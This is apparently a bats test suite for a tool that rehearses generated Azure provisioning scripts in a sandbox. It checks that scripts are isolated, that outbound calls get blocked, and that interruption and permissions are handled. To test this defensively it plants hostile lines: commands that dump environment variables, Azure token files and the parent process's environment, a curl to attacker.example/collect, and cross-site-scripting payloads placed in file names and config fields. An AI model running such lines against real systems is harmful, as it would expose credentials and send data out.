#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# rehearse: what scripts cannot see and cannot reach, what ends it, and what it finds.
load simulation

setup() {
  only_with_az
  go_to_the_lab
}

teardown() {
  nothing_is_left
}

# A template that puts a line of bash into the preflight of every script, where it runs before anything else.
with_line() {
  mkdir -p templates/bash/lib
  {
    echo '{{<bash/lib/preflight.sh}}'
    echo '{{$preflight}}'
    printf '%s\n' "$1"
    echo '{{/preflight}}'
    echo '{{/bash/lib/preflight.sh}}'
  } >templates/bash/lib/preflight.sh
}

@test "a script sees nothing of the caller's: environment, home, az profile, open files" {
  plant_canaries
  export AZURE_CONFIG_DIR=$BATS_TEST_TMPDIR/profile-elsewhere
  mkdir -p "$AZURE_CONFIG_DIR"
  echo canary-7 >"$AZURE_CONFIG_DIR/token"
  exec 9<"$AZURE_CONFIG_DIR/token"
  with_line "  { env; cat ~/.azure/* '$HOME'/.azure/* '$AZURE_CONFIG_DIR'/* <&9; cat /dev/fd/9; tr '\\0' '\\n' </proc/\$PPID/environ; ls /proc/\$PPID/cwd/; } 2>&1; exit 9"
  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
  exec 9<&-
  jq -r '.phases[] | select(.kind == "provision") | .output' <<<"$output" >printed
  grep -q '^HTTPS_PROXY=http://127.0.0.1:' printed
  run -1 grep -F canary printed
  # the names of what it sees are few, and none is the caller's
  [ "$(sed -n 's/^\([A-Za-z_]*\)=.*/\1/p' printed | grep -c -v -E '^(.*_?proxy|.*_PROXY|HOME|PATH|PWD|OLDPWD|SHLVL|_|LANG|LC_ALL|TMPDIR|MSYS_NO_PATHCONV|REQUESTS_CA_BUNDLE|CURL_CA_BUNDLE|SSL_CERT_FILE|NODE_EXTRA_CA_CERTS|NODE_USE_ENV_PROXY|AZURE_CONFIG_DIR|AZURE_CORE_[A-Z_]*|AZURE_DEVOPS_CACHE_DIR)$')" = 0 ]
  jq -e '.phases[-1].status == 9' <<<"$output"
}

@test "a script that calls another host is refused, named, and the rehearsal fails" {
  with_line '  curl -sS https://attacker.example/collect || true; printf "%b\n" "<script>document.title=1</script>\\033[2J"; exit 9'
  # what failed has a page, too; here of a description in which all that can be nasty is
  hostile_description >"$nasty"
  echo '<!DOCTYPE html>an older page' >page.html
  run -1 --separate-stderr "$TOOL" rehearse "$nasty" --templates templates --json --report page.html
  printf '%s\n' "$output" >result.json
  jq -e '.good | not' result.json
  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated; it ended with status 9"' result.json
  jq -e --arg ini "$nasty" '.ini == $ini and .review[0].name == "\"><img src=x onerror=\"document.title=1\"> it'"'"'s & שלום"' result.json
  grep -q 'The rehearsal failed' page.html
  page_is_right page.html
}

# The name of its file is a nasty one, too.
nasty='"><script>document.title=1<!--.ini'

hostile_description() {
  sed -e 's|^\(name *= \)@/etc/passwd.*|\1"><img src=x onerror="document.title=1"> it'"'"'s \& שלום|' \
    -e 's|^\(name *= \)$(touch.*|\1<svg onload="document.title=1"> {{{ini}}}|' \
    -e 's|^\(roles *= \)[^@]*|\1<b onclick="document.title=1">\& |' \
    -e 's|^\(description *= \).*|\1</title><script>document.title=1</script>|' "$SRCDIR/examples/nasty.ini"
}

@test "nothing connects elsewhere than to this machine" {
  command -v strace >/dev/null || skip 'strace is not installed'
  with_line '  curl -sS --noproxy "*" --max-time 5 https://192.0.2.1/ || true; exit 9'
  strace -f -q -e trace=connect,sendto,sendmsg -o trace "$TOOL" rehearse -q "$SRCDIR/examples/contoso.ini" --templates templates || true
  grep -q 'sa_family=AF_INET' trace
  # what the script tried without the proxy has no network to leave by, or has at least no other try beside it
  run -1 grep -E 'sa_family=AF_INET6?' <(grep -v -e 'inet_addr("127.0.0.1")' -e 'ENETUNREACH' trace)
}

@test "Ctrl-C ends it, and nothing is left" {
  "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" >out 2>&1 3>&- &
  for ((i = 0; i < 600; i++)); do
    if grep -q '^==> provision.sh' out; then break; fi
    sleep 0.1
  done
  sleep 2
  kill -TERM $!
  wait $! || status=$?
  [ "$status" = 143 ]
  grep -q 'interrupted' out
}

@test "a right that is missing is found" {
  "$TOOL" simulate -q --fit "$SRCDIR/examples/contoso.ini" --save world.json -- true
  jq '.roleAssignments |= map(select(.principalType != "User" or (.scope | endswith("rg-secrets") | not)))
    | .roleAssignments |= map(if .principalType == "User" and (.scope | test("^/subscriptions/[^/]*$"))
        then .roleDefinitionId = "b24988ac-6180-42a0-ab88-20f7382dd24c" else . end)' world.json >poorer.json
  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --state poorer.json --json
  jq -e '.phases[-1].status == 3' <<<"$output"
  jq -r '.phases[-1].output' <<<"$output" | grep -F 'no right to Microsoft.Authorization/roleAssignments/write'
}

@test "what existed before stays: identity, connection and role" {
  only_when_all
  "$TOOL" simulate -q --fit "$SRCDIR/examples/contoso.ini" --save before.json -- \
    bash -c '"$1" generate -q "$2" -o scripts && scripts/payments-prod/provision.sh --yes' bash "$TOOL" "$SRCDIR/examples/contoso.ini"
  # as if other hands had made them: no tag, no mark, another name of the assignment; the credential is missing
  jq '.subscriptions[].identities[].tags = {}
    | .subscriptions[].identities[].federatedCredentials = []
    | (.organizations[].serviceEndpoints[].references[].description) |= sub(" *\\[azdo-wif:[0-9a-f]*\\]$"; "")
    | (.roleAssignments[] | select(.principalType == "ServicePrincipal") | .name) |= sub("^.{8}"; "00000000")' before.json >given.json
  run -0 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --state given.json --json
  printf '%s\n' "$output" >result.json
  jq -e '.good and .difference == ""' result.json
  jq -e '[.phases[] | select(.kind == "provision") | .writes] == [1]' result.json
}
